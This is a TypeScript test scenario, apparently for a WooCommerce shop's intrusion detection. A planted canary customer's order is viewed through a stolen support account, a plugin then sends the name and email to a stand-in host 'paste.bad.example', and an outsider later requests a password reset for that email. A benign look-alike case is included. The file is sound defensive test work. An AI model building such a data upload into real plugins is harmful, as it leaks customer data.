import { CANARY_MAIL, CANARY_ORDER } from '../planted-data.ts';
import type { Story } from '../story.ts';

export const canaryInExport: Story = {
  name: 'canary-in-export', title: 'a made-up customer is read, sent, and later written to from outside',
  items: ['planted.canary-read', 'planted.canary-sent', 'planted.honey-order'], site: 'garten-werk',
  attack(s) {
    const thief = s.stolen('support', s.stranger());
    return [
      s.act(s.at('21:40'), 'data_access/order-viewed', thief, { 'woocommerce.order.id': CANARY_ORDER, 'woocommerce.order.canary': true, 'customer.email': CANARY_MAIL }),
      s.call(s.at('21:50'), { host: 'paste.bad.example', plugin: 'reviews-plus', known: false }, { 'http.request.body.content': `name,mail\nV. Quarz,${CANARY_MAIL}` }),
      s.request(s.at('9:00', 1), s.stranger(3), 'POST /my-account/lost-password/', { body: `user_login=${encodeURIComponent(CANARY_MAIL)}` }),
    ];
  },
  lookAlike: {
    title: 'a customer with a name much like it orders',
    events: (s) => [
      s.act(s.at('11:40'), 'data_access/order-viewed', s.staff('support'), { 'woocommerce.order.id': CANARY_ORDER + 1, 'customer.email': 'valentina.quartz@mail.example' }, { reads: [s.customer(9)] }),
      s.request(s.at('11:50'), s.visitor(), 'POST /my-account/lost-password/', { body: 'user_login=valentin.quarz%40mail.example' }),
    ],
  },
};
